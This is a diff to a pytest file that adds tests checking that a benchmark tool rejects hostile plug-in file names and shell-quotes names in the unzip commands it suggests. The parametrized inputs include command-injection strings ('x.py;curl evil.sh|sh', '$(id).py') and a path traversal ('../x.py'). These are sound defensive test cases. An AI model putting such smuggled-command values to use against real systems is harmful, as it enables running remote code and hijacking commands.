@@ -8,9 +8,11 @@ import numpy as np
 import pytest
 from PIL import Image
 
+from benchmark.errors import UserError
 from benchmark.pipelines import file, saving
 from benchmark.pipelines.pipeline import fit
 from benchmark.pipelines.rehearsal import rehearse_saving
+from benchmark.pipelines.sources import match_plugins
 from benchmark.plugins import resolve
 from benchmark.spec import Spec
 
@@ -297,3 +299,16 @@ def test_what_is_made_of_parts_is_rehearsed_though_all_are_in_the_registry(digit
     for model in ("knn", "one_vs_rest(estimator=knn)"):
         rehearse_saving(make_cell(digits, model=model, split="holdout"), digits)
     assert names == ["one_vs_rest(estimator=knn)"]
+
+
+@pytest.mark.parametrize("name", ["x.py;curl evil.sh|sh", "../x.py", "a b.py", "x" * 60_000 + ".py", "$(id).py", "x.sh"])
+def test_a_strangers_name_of_a_plug_in_is_in_no_command_to_be_copied(name):
+    with pytest.raises(UserError, match=r"is no name of a plug-in file") as caught:
+        match_plugins({name: b"text"}, [], "it.pipeline")
+    assert "unzip" not in str(caught.value)
+    assert len(str(caught.value)) < 500
+
+
+def test_commands_to_be_copied_quote_the_name_of_the_file():
+    with pytest.raises(UserError, match=r"unzip -p 'my model\(1\)\.pipeline' plugins/mine\.py"):
+        match_plugins({"mine.py": b"text"}, [], "my model(1).pipeline")
